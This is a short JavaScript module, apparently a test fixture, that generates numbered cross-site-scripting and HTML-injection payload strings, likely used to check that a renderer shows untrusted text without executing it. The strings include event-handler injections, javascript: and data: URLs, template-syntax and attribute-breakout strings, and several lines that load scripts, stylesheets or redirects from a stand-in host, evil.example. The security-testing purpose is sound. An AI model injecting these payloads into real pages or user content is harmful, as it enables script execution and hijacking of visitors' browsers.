// Texts that would run as a script or load something if they were not only shown as text.
const TEMPLATES = [
    (n) => `<script>window.hit=${n}</script>`,
    (n) => `<img src=x onerror="window.hit=${n}">`,
    (n) => `<svg onload="window.hit=${n}"></svg>`,
    (n) => `"><script src="https://evil.example/${n}.js"></script>`,
    (n) => `<iframe srcdoc="<script>parent.hit=${n}</script>"></iframe>`,
    (n) => `<link rel="stylesheet" href="https://evil.example/${n}.css">`,
    (n) => `<img src="https://evil.example/${n}.png">`,
    (n) => `javascript:window.hit=${n}`,
    (n) => `[click](javascript:window.hit=${n})`,
    (n) => `<a href="javascript:window.hit=${n}">x</a>`,
    (n) => `<a href="data:text/html,<script>window.hit=${n}</script>">x</a>`,
    (n) => `<form action="https://evil.example/${n}"><input autofocus onfocus="window.hit=${n}"></form>`,
    (n) => `<meta http-equiv="refresh" content="0;url=https://evil.example/${n}">`,
    (n) => `<base href="https://evil.example/${n}/">`,
    (n) => `<style>@import url("https://evil.example/${n}.css");</style>`,
    (n) => `<object data="https://evil.example/${n}"></object><embed src="https://evil.example/${n}">`,
    (n) => `<video><source onerror="window.hit=${n}"></video>`,
    (n) => `<details open ontoggle="window.hit=${n}">x</details>`,
    (n) => `\${window.hit=${n}}{{window.hit=${n}}}<%= window.hit=${n} %>`,
    (n) => `' onmouseover='window.hit=${n}' x='`,
    (n) => `{"__html":"<img src=x onerror=window.hit=${n}>","constructor":null,"type":"script"}`,
    (n) => `--></title></textarea></script><script>window.hit=${n}</script>`,
    (n) => `&lt;script&gt;window.hit=${n}&lt;/script&gt;`,
    (n) => `\u202e<script>window.hit=${n}</script>\u202c\u2066\u200b`,
    (n) => `https://evil.example/${n}"onclick="window.hit=${n}" https://evil.example/<b>${n}</b>`,
];

/** @param {number} count */
export function payloads(count) {
    return Array.from({ length: count }, (_, n) => TEMPLATES[n % TEMPLATES.length](n));
}
